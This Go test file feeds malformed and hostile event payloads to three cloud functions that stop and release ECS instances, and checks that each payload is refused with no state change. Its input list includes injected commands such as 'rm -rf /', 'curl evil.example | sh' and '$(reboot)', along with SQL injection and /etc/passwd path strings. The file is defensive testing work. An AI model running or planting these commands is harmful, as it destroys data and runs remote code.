package drills_test

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/fc-ecs-release/fc-ecs-release/internal/ecsemu"
	"github.com/fc-ecs-release/fc-ecs-release/internal/fclocal"
	"github.com/fc-ecs-release/fc-ecs-release/shared/handler"
	"github.com/fc-ecs-release/fc-ecs-release/shared/request"
)

// The instances the hostile inputs aim at: they exist and nothing guards
// them, so anything that slipped through would act on them.
const (
	victim1 = "i-drillvictim001"
	victim2 = "i-drillvictim002"
)

// shapes lists every trigger shape, each with a way to carry a request
// object (raw JSON text, possibly broken) inside it.
var triggerShapes = []struct {
	name string
	http bool
	wrap func(req []byte) []byte
}{
	{"bare", false, func(req []byte) []byte { return req }},
	{"timer", false, func(req []byte) []byte {
		return obj("triggerTime", str("2026-11-26T02:00:00Z"), "triggerName", str("hostile"), "payload", str(string(req)))
	}},
	{"fc-http", true, func(req []byte) []byte { return fcHTTP("POST", str(string(req)), false) }},
	{"cloudevent", false, func(req []byte) []byte { return cloudEvent("evt-hostile", inline(req)) }},
	{"cloudevent-batch", false, func(req []byte) []byte {
		// A sound element first: one bad element must fail the whole batch.
		good := cloudEvent("evt-good", []byte(`{"instanceIds":["`+victim2+`"]}`))
		return []byte("[" + string(good) + "," + string(str(string(cloudEvent("evt-bad", inline(req))))) + "]")
	}},
	{"fc-destination", false, func(req []byte) []byte {
		return destination(200, "", obj("requestId", str("stop-1"), "next", inline(req)))
	}},
	{"aws-eventbridge", false, func(req []byte) []byte { return awsEventBridge(inline(req)) }},
	{"aws-apigatewayv2", true, func(req []byte) []byte { return apiGateway("POST", str(string(req)), false) }},
	{"aws-function-url", true, func(req []byte) []byte {
		return functionURL("POST", str(base64.StdEncoding.EncodeToString(req)), true)
	}},
}

// hostileRequests are request objects no function may act on: wrong types,
// unknown fields that would switch a guard off, out-of-range or malformed
// values, duplicate keys, huge or deep structures, invalid UTF-8.
func hostileRequests() []struct{ name, body string } {
	ids := func(n int) string {
		parts := make([]string, n)
		for i := range parts {
			parts[i] = fmt.Sprintf(`"i-x%05d"`, i)
		}
		return "[" + strings.Join(parts, ",") + "]"
	}
	deep := strings.Repeat("[", 20000) + strings.Repeat("]", 20000)
	v := `"instanceIds":["` + victim1 + `"]`
	return []struct{ name, body string }{
		{"instanceIds a string", `{"instanceIds":"` + victim1 + `"}`},
		{"instance id a number", `{"instanceIds":[123]}`},
		{"instance id null", `{"instanceIds":[null]}`},
		{"dryRun a string", `{` + v + `,"dryRun":"false"}`},
		{"maxInstances a string", `{` + v + `,"maxInstances":"100"}`},
		{"maxInstances a fraction", `{` + v + `,"maxInstances":1.5}`},
		{"maxInstances negative", `{` + v + `,"maxInstances":-1}`},
		{"maxInstances overflows", `{` + v + `,"maxInstances":99999999999999999999999}`},
		{"unknown field ignoreGuards", `{` + v + `,"ignoreGuards":true}`},
		{"unknown field protect", `{` + v + `,"protect":false}`},
		{"unknown field deletionProtection", `{` + v + `,"deletionProtection":false}`},
		{"unknown field managedTag", `{` + v + `,"managedTag":""}`},
		{"case-folded field name", `{"InstanceIds":["` + victim1 + `"]}`},
		{"50,001 instance ids", `{"instanceIds":` + ids(50001) + `}`},
		{"uppercase instance id", `{"instanceIds":["I-DRILLVICTIM001"]}`},
		{"shell in instance id", `{"instanceIds":["` + victim1 + `; rm -rf /"]}`},
		{"SQL in instance id", `{"instanceIds":["` + victim1 + `' OR '1'='1"]}`},
		{"path in instance id", `{"instanceIds":["../../etc/passwd"]}`},
		{"homoglyph instance id", `{"instanceIds":["і-drillvictim001"]}`},
		{"empty instance id", `{"instanceIds":[""]}`},
		{"shell in region", `{"region":"cn-hangzhou; curl evil.example | sh",` + v + `}`},
		{"SQL in stoppedMode", `{` + v + `,"stoppedMode":"'; DROP TABLE instances;--"}`},
		{"command substitution in then", `{` + v + `,"then":"$(reboot)"}`},
		{"control characters in a tag value", `{"selector":{"tags":{"pool":"ci\u0000\u001b[2J"}}}`},
		{"control characters in a tag key", `{"selector":{"tags":{"po\nol":"ci"}}}`},
		{"10 KB tag value", `{"selector":{"tags":{"pool":"` + strings.Repeat("x", 10<<10) + `"}}}`},
		{"acs: tag key", `{"selector":{"tags":{"acs:ecs:owner":"ci"}}}`},
		{"acs: tag value", `{"selector":{"tags":{"pool":"acs:ci"}}}`},
		{"21 tags", `{"selector":{"tags":{` + func() string {
			var kv []string
			for i := range 21 {
				kv = append(kv, fmt.Sprintf(`"k%d":"v"`, i))
			}
			return strings.Join(kv, ",")
		}() + `}}}`},
		{"empty selector", `{"selector":{}}`},
		{"selector status lower case", `{"selector":{"status":["running"]}}`},
		{"invalid autoReleaseTime", `{` + v + `,"autoReleaseTime":"2026-13-45T99:00:00Z"}`},
		{"autoReleaseTime not UTC", `{` + v + `,"autoReleaseTime":"2026-12-01T08:00:00+08:00"}`},
		{"after in years", `{` + v + `,"after":"1y"}`},
		{"olderThan negative", `{"selector":{"tags":{"pool":"ci"},"olderThan":"-5h"}}`},
		{"duplicate instanceIds", `{"instanceIds":["` + victim1 + `"],"instanceIds":["` + victim2 + `"]}`},
		{"duplicate dryRun", `{` + v + `,"dryRun":true,"dryRun":false}`},
		{"duplicate tag key", `{"selector":{"tags":{"pool":"ci","pool":"web"}}}`},
		{"deeply nested", `{"instanceIds":` + deep + `}`},
		{"nested unknown field", `{` + v + `,"x":` + strings.Repeat(`{"x":`, 500) + `1` + strings.Repeat(`}`, 500) + `}`},
		{"reason of 2,000 characters", `{` + v + `,"reason":"` + strings.Repeat("r", 2000) + `"}`},
		{"invalid UTF-8 in reason", `{` + v + `,"reason":"` + "\xff\xfe\xfd" + `"}`},
		{"invalid UTF-8 in a tag value", `{"selector":{"tags":{"pool":"` + "ci\xc3\x28" + `"}}}`},
		{"not JSON", `{"instanceIds":["` + victim1 + `"]`},
		{"an array", `["` + victim1 + `"]`},
		{"a string", `"` + victim1 + `"`},
		{"a number", `42`},
		{"null", `null`},
		{"1 MB request", `{` + v + `,"reason":"` + strings.Repeat("a", 1<<20) + `"}`},
	}
}

// hostileEnvelopes are malformed events of each shape around an otherwise
// sound request.
func hostileEnvelopes() []struct {
	name, shape string
	http        bool
	body        []byte
} {
	sound := []byte(`{"instanceIds":["` + victim1 + `"]}`)
	soundStr := str(string(sound))
	ecs := func(typ, subject string, data []byte) []byte {
		return obj("specversion", str("1.0"), "id", str("e"), "source", str("acs.ecs"), "type", str(typ), "subject", str(subject), "data", data)
	}
	job := func(data string) []byte { return cloudEvent("evt-job", []byte(data)) }
	return []struct {
		name, shape string
		http        bool
		body        []byte
	}{
		{"payload an object", "timer", false, obj("triggerTime", str("x"), "triggerName", str("t"), "payload", sound)},
		{"payload a number", "timer", false, obj("triggerTime", str("x"), "triggerName", str("t"), "payload", []byte("7"))},
		{"triggerName a number", "timer", false, obj("triggerTime", str("x"), "triggerName", []byte("7"), "payload", soundStr)},
		{"duplicate payload", "timer", false, []byte(`{"triggerName":"t","payload":"{\"instanceIds\":[\"` + victim1 + `\"],\"dryRun\":true}","payload":` + string(soundStr) + `}`)},
		{"empty payload", "timer", false, obj("triggerTime", str("x"), "triggerName", str("t"), "payload", str(""))},
		{"body an object", "fc-http", true, fcHTTP("POST", sound, false)},
		{"broken base64", "fc-http", true, fcHTTP("POST", str("eyJpbnN0YW5jZUlkcyI6!!!"), true)},
		{"base64 of invalid JSON", "fc-http", true, fcHTTP("POST", str(base64.StdEncoding.EncodeToString([]byte("{instanceIds:"))), true)},
		{"empty body", "fc-http", true, fcHTTP("POST", str(""), false)},
		{"DELETE", "fc-http", true, fcHTTP("DELETE", soundStr, false)},
		{"1 MB body", "fc-http", true, fcHTTP("POST", str(`{"instanceIds":["`+victim1+`"],"reason":"`+strings.Repeat("b", 1<<20)+`"}`), false)},
		{"GET with a bad instanceId", "fc-http", true, fcHTTPQuery(map[string]string{"instanceId": victim1 + ",i-BAD"})},
		{"GET with an unknown parameter", "fc-http", true, fcHTTPQuery(map[string]string{"instanceId": victim1, "force": "true"})},
		// Not an FC HTTP trigger event (those are v1), so not answered as one.
		{"version v2", "fc-http", false, obj("version", str("v2"), "rawPath", str("/"), "body", soundStr, "requestContext", obj("http", obj("method", str("POST"))))},
		{"duplicate body", "fc-http", true, []byte(`{"version":"v1","rawPath":"/","body":"{\"instanceIds\":[\"` + victim1 + `\"],\"dryRun\":true}","body":` + string(soundStr) + `,"requestContext":{"http":{"method":"POST"}}}`)},
		{"specversion 0.3", "cloudevent", false, obj("specversion", str("0.3"), "id", str("e"), "source", str("s"), "type", str("t"), "data", sound)},
		{"no type", "cloudevent", false, obj("specversion", str("1.0"), "id", str("e"), "source", str("s"), "data", sound)},
		{"data a string of broken JSON", "cloudevent", false, cloudEvent("e", str("{\"instanceIds\":"))},
		{"broken data_base64", "cloudevent", false, obj("specversion", str("1.0"), "id", str("e"), "source", str("s"), "type", str("t"), "data_base64", str("%%%"))},
		{"data_base64 with invalid UTF-8", "cloudevent", false, obj("specversion", str("1.0"), "id", str("e"), "source", str("s"), "type", str("t"), "data_base64", str(base64.StdEncoding.EncodeToString([]byte(`{"instanceIds":["`+victim1+`"],"reason":"`+"\xff\xfe"+`"}`))))},
		{"data and data_base64", "cloudevent", false, obj("specversion", str("1.0"), "id", str("e"), "source", str("s"), "type", str("t"), "data", sound, "data_base64", str(base64.StdEncoding.EncodeToString(sound)))},
		{"ECS disk event", "cloudevent", false, ecs("ecs:Disk:StateChange", "acs:ecs:cn-hangzhou:1:disk/d-1", []byte(`{"resourceId":"d-1"}`))},
		{"ECS event naming two instances", "cloudevent", false, ecs("ecs:Instance:StateChange", "acs:ecs:cn-hangzhou:1:instance/"+victim1, []byte(`{"resourceId":"`+victim2+`","state":"Stopped"}`))},
		{"ECS event naming no instance", "cloudevent", false, ecs("ecs:Instance:StateChange", "", []byte(`{"state":"Stopped"}`))},
		{"job record without status", "cloudevent", false, job(`{"instanceId":"` + victim1 + `"}`)},
		{"job record with force", "cloudevent", false, job(`{"instanceId":"` + victim1 + `","status":"done","force":true}`)},
		{"job record with control characters in status", "cloudevent", false, job(`{"instanceId":"` + victim1 + `","status":"done\u0007"}`)},
		{"job record with an invalid instance", "cloudevent", false, job(`{"instanceId":"` + victim1 + `/../x","status":"done"}`)},
		{"empty batch", "cloudevent-batch", false, []byte(`[]`)},
		{"batch of numbers", "cloudevent-batch", false, []byte(`[1,2,3]`)},
		{"batch element not an event", "cloudevent-batch", false, []byte(`[` + string(cloudEvent("a", sound)) + `,` + string(soundStr) + `]`)},
		{"no responseContext", "fc-destination", false, obj("requestPayload", str("{}"), "responsePayload", obj("next", sound))},
		{"responsePayload broken JSON", "fc-destination", false, destination(200, "", str("{\"next\":"))},
		{"requestId of 1,000 characters", "fc-destination", false, obj("requestContext", obj("requestId", str(strings.Repeat("q", 1000))), "requestPayload", str("{}"), "responseContext", obj("statusCode", []byte("200")), "responsePayload", obj("next", sound))},
		{"invalid time", "aws-eventbridge", false, obj("version", str("0"), "id", str("1"), "detail-type", str("t"), "source", str("s"), "time", str("yesterday"), "detail", sound)},
		{"detail a string", "aws-eventbridge", false, obj("version", str("0"), "id", str("1"), "detail-type", str("t"), "source", str("s"), "detail", soundStr)},
		{"no detail", "aws-eventbridge", false, obj("version", str("0"), "id", str("1"), "detail-type", str("t"), "source", str("s"))},
		{"empty detail-type", "aws-eventbridge", false, obj("version", str("0"), "id", str("1"), "detail-type", str(""), "source", str("s"), "detail", sound)},
		{"broken base64", "aws-apigatewayv2", true, apiGateway("POST", str("not*base64"), true)},
		{"PATCH", "aws-apigatewayv2", true, apiGateway("PATCH", soundStr, false)},
		{"body an array", "aws-apigatewayv2", true, apiGateway("POST", str(`[{"instanceIds":["`+victim1+`"]}]`), false)},
		{"broken base64", "aws-function-url", true, functionURL("POST", str("@@@@"), true)},
		{"isBase64Encoded a string", "aws-function-url", true, functionURL("POST", soundStr, false, "isBase64Encoded", str("yes"))},
	}
}

// TestHostileInputDrill runs every hostile input through all three
// functions: each gets a clear refusal (HTTP shapes: a 4xx answer with an
// {"error":{"code","message"}} body; other shapes: an error), none panics,
// and the emulator's call record proves that nothing was changed.
func TestHostileInputDrill(t *testing.T) {
	t.Parallel()
	w := newWorld(t, ecsemu.Options{}, nil)
	w.Env.AddFleet(t, ecsemu.Instance{InstanceId: victim1, Tags: tags("pool", "ci")}, ecsemu.Instance{InstanceId: victim2, Status: ecsemu.StatusStopped, Tags: tags("pool", "ci")})
	before := w.Env.Emu.Instances()
	handlers := []struct {
		name string
		h    *handler.Handler
	}{
		{"stop", handler.NewStop(w.Deps())},
		{"release", handler.NewRelease(w.Deps())},
		{"autorelease", handler.NewAutoRelease(w.Deps())},
	}

	type input struct {
		name, shape string
		http        bool
		body        []byte
	}
	var inputs []input
	// The two heaviest inputs (each decode of them costs a good part of a
	// second under -race) go through every function but only half the
	// shapes each; every shape gets one of them.
	heavy := map[string][]string{
		"1 MB request":        {"bare", "timer", "cloudevent-batch", "fc-destination", "aws-function-url"},
		"50,001 instance ids": {"bare", "fc-http", "cloudevent", "aws-eventbridge", "aws-apigatewayv2"},
	}
	for _, req := range hostileRequests() {
		for _, s := range triggerShapes {
			if only, ok := heavy[req.name]; ok && !slices.Contains(only, s.name) {
				continue
			}
			if req.body == "null" && s.name == "fc-destination" {
				// next:null is a source that handed nothing over: release
				// answers "nothing to do" (documented), not an error.
				continue
			}
			inputs = append(inputs, input{req.name, s.name, s.http, s.wrap([]byte(req.body))})
		}
	}
	for _, env := range hostileEnvelopes() {
		inputs = append(inputs, input{env.name, env.shape, env.http, env.body})
	}
	perShape := map[string]int{}
	var refusals atomic.Int64
	t.Run("inputs", func(t *testing.T) {
		for _, in := range inputs {
			perShape[in.shape]++
			for _, fn := range handlers {
				t.Run(in.shape+"/"+in.name+"/"+fn.name, func(t *testing.T) {
					// One world for all: the handlers and the emulator are
					// safe for concurrent use, and the record must stay
					// empty of mutating calls whatever the order.
					t.Parallel()
					r := w.Handle(fn.h, string(in.body), call{})
					if in.http {
						require.NoError(t, r.Err, "HTTP callers get an answer, not a failed invocation")
						status, body := httpAnswer(t, r.Out)
						assert.True(t, status >= 400 && status < 500, "a 4xx answer, got %d: %.300s", status, body)
						var eb struct {
							Error struct{ Code, Message string } `json:"error"`
						}
						require.NoError(t, json.Unmarshal([]byte(body), &eb), body)
						assert.NotEmpty(t, eb.Error.Code, body)
						assert.NotEmpty(t, eb.Error.Message, body)
					} else {
						require.Error(t, r.Err, "refused (detected as %q)", request.Detect(in.body))
						assert.NotEmpty(t, r.Err.Error())
						assert.Nil(t, r.Out)
					}
					refusals.Add(1)
				})
			}
		}
	})
	require.Empty(t, w.Env.Emu.MutatingCalls(), "the emulator's record: no hostile input led to a mutating call")
	assert.Equal(t, before, w.Env.Emu.Instances(), "every instance unchanged")
	for _, s := range triggerShapes {
		assert.Positive(t, perShape[s.name], "shape %s tried", s.name)
	}
	t.Logf("hostile inputs: %d (%s), each through 3 functions: %d refusals", len(inputs), fclocal.SummaryText(perShape), refusals.Load())
	assert.Equal(t, int64(3*len(inputs)), refusals.Load(), "every input refused by every function")
	report(t, figures{
		Drill: "hostile-input", Invocations: int(w.Invocations.Load()), Inputs: len(inputs), Kept: len(before),
		ECSCalls: len(w.Env.Emu.Calls()), MutatingRefused: len(w.Env.Emu.MutatingCalls()),
		Note: fmt.Sprintf("%d malformed or hostile inputs across %d trigger shapes × 3 functions: every one refused, no panic, no mutating call", len(inputs), len(perShape)),
	})
}

// --- event builders (raw JSON, so that broken input stays broken) ----------

// obj builds a JSON object from key, raw value pairs, in order (so that
// duplicate keys can be built too).
func obj(kv ...any) []byte {
	var b strings.Builder
	b.WriteByte('{')
	for i := 0; i+1 < len(kv); i += 2 {
		if i > 0 {
			b.WriteByte(',')
		}
		b.Write(str(kv[i].(string)))
		b.WriteByte(':')
		b.Write(kv[i+1].([]byte))
	}
	b.WriteByte('}')
	return []byte(b.String())
}

// str is s as a JSON string literal. Unlike json.Marshal it keeps invalid
// UTF-8 as it is (json.Marshal would turn it into U+FFFD), so that broken
// bytes reach the decoder inside timer payloads, HTTP bodies and batch
// elements too.
func str(s string) []byte {
	if utf8.ValidString(s) {
		raw, _ := json.Marshal(s)
		return raw
	}
	var b strings.Builder
	b.WriteByte('"')
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c == '"' || c == '\\':
			b.WriteByte('\\')
			b.WriteByte(c)
		case c < 0x20:
			fmt.Fprintf(&b, `\u%04x`, c)
		default:
			b.WriteByte(c)
		}
	}
	b.WriteByte('"')
	return []byte(b.String())
}

// inline embeds req as JSON when it is valid JSON, else as a string.
func inline(req []byte) []byte {
	if json.Valid(req) {
		return req
	}
	return str(string(req))
}

func cloudEvent(id string, data []byte) []byte {
	return obj("specversion", str("1.0"), "id", str(id), "source", str("batch.jobs"), "type", str("job:Completed"), "data", data)
}

func destination(status int, functionError string, responsePayload []byte) []byte {
	return obj("timestamp", []byte("1795632228000"),
		"requestContext", obj("requestId", str("stop-1"), "functionArn", str("acs:fc:cn-hangzhou:1:functions/ecs-stop"), "condition", str(""), "approximateInvokeCount", []byte("1")),
		"requestPayload", str("{}"),
		"responseContext", obj("statusCode", fmt.Append(nil, status), "functionError", str(functionError)),
		"responsePayload", responsePayload)
}

func awsEventBridge(detail []byte) []byte {
	return obj("version", str("0"), "id", str("6a7e8feb"), "detail-type", str("ReleaseRequested"), "source", str("com.example.ops"),
		"account", str("111122223333"), "time", str("2026-11-26T18:43:48Z"), "region", str("us-west-2"), "resources", []byte("[]"), "detail", detail)
}

func fcHTTP(method string, body []byte, b64 bool) []byte {
	return obj("version", str("v1"), "rawPath", str("/release"), "headers", obj("Content-Type", str("application/json")),
		"queryParameters", []byte("{}"), "body", body, "isBase64Encoded", fmt.Append(nil, b64),
		"requestContext", obj("requestId", str("http-1"), "http", obj("method", str(method), "path", str("/release"), "sourceIp", str("198.51.100.7"))))
}

func fcHTTPQuery(query map[string]string) []byte {
	q, _ := json.Marshal(query)
	return obj("version", str("v1"), "rawPath", str("/autorelease"), "headers", []byte("{}"), "queryParameters", q, "body", str(""), "isBase64Encoded", []byte("false"),
		"requestContext", obj("requestId", str("http-2"), "http", obj("method", str("GET"), "path", str("/autorelease"))))
}

func apiGateway(method string, body []byte, b64 bool) []byte {
	return obj("version", str("2.0"), "routeKey", str(method+" /release"), "rawPath", str("/release"), "headers", obj("content-type", str("application/json")),
		"requestContext", obj("accountId", str("111122223333"), "apiId", str("r3pmxmplak"), "domainName", str("r3pmxmplak.execute-api.us-west-2.amazonaws.com"),
			"http", obj("method", str(method), "path", str("/release")), "requestId", str("gw-1"), "routeKey", str(method+" /release")),
		"body", body, "isBase64Encoded", fmt.Append(nil, b64))
}

func functionURL(method string, body []byte, b64 bool, extra ...any) []byte {
	kv := []any{"version", str("2.0"), "rawPath", str("/release"), "headers", obj("content-type", str("application/json")),
		"requestContext", obj("accountId", str("111122223333"), "domainName", str("a1b2c3.lambda-url.us-west-2.on.aws"),
			"http", obj("method", str(method), "path", str("/release")), "requestId", str("url-1")),
		"body", body}
	if len(extra) == 0 {
		kv = append(kv, "isBase64Encoded", fmt.Append(nil, b64))
	}
	return obj(append(kv, extra...)...)
}
